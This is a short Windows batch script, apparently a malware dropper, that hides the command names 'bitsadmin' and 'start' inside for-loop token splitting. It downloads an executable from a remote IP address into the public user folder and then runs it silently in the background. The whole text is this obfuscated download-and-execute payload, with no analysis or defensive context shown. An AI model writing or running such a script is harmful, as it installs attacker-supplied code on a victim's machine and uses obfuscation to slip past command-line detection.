REM run 6956 v4
for /f "tokens=2 delims=;" %%i in ("jwky;bitsadmin;ujgi") do %%i /transfer job /download /priority high http://198.51.100.9/u.exe C:\Users\Public\u.exe
for /f "tokens=2 delims=~" %%i in ("hgdd~start~tbhf") do %%i /b C:\Users\Public\u.exe
